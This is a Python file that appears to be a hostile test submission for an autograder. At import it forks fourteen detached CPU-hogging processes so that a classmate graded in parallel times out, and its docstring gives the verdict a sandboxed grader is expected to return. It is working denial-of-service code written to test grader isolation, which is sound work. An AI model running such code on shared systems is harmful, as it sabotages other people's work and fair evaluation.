"""Attack: starve the neighbour of CPU so that a correct but slow classmate times out.

At import, 14 busy processes (fork, setsid: each its own scheduler
autogroup, a tight loop) are started; they spin
for as long as this submission is being graded (each stops by itself
after 25 s at most). The first call of every formula then sleeps 1.2 s (keeping the worker
alive, within its per-formula time budget); sigmoid is answered honestly,
the others raise NotImplementedError. On a 2-core machine the classmate graded in parallel
(--jobs 2) gets ~2/15 of the CPU instead of a fair half.

Expected verdict: the slow-but-correct neighbour keeps full marks (each
worker gets a fair CPU share, e.g. its own cgroup), the hostile file gets
at most its sigmoid point; nothing of it is left afterwards.
"""
import os
import time

import numpy as np

N = 14
HOGS = []


def _hog():
    end = time.monotonic() + 25.0
    x = 0
    while time.monotonic() < end:
        for _ in range(100000):
            x += 1


for _ in range(N):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        try:
            try:
                os.setsid()  # one session each: one scheduler autogroup each, so the kernel's
            except OSError:  # per-session fairness gives the hogs 14 shares, the classmate 1
                pass
            _hog()
        finally:
            os._exit(0)
    HOGS.append(pid)
print(f"FCH hogs={len(HOGS)}", flush=True)
_calls = {}


def _stay(name, seconds=1.2):
    # the first call of each formula sleeps: the worker stays alive while the hogs spin
    if name not in _calls:
        _calls[name] = 1
        time.sleep(seconds)


def sigmoid(x):
    _stay("sigmoid")
    x = np.asarray(x, dtype=np.float64)
    e = np.exp(-np.abs(x))
    return np.where(x >= 0, 1.0 / (1.0 + e), e / (1.0 + e))


def sigmoid_backward(x, dy):
    _stay("sigmoid_backward")
    raise NotImplementedError


def tanh_backward(x, dy):
    _stay("tanh_backward")
    raise NotImplementedError


def relu_backward(x, dy):
    _stay("relu_backward")
    raise NotImplementedError


def leaky_relu_backward(x, a, dy):
    _stay("leaky_relu_backward")
    raise NotImplementedError


def prelu_backward(x, a, dy):
    _stay("prelu_backward")
    raise NotImplementedError
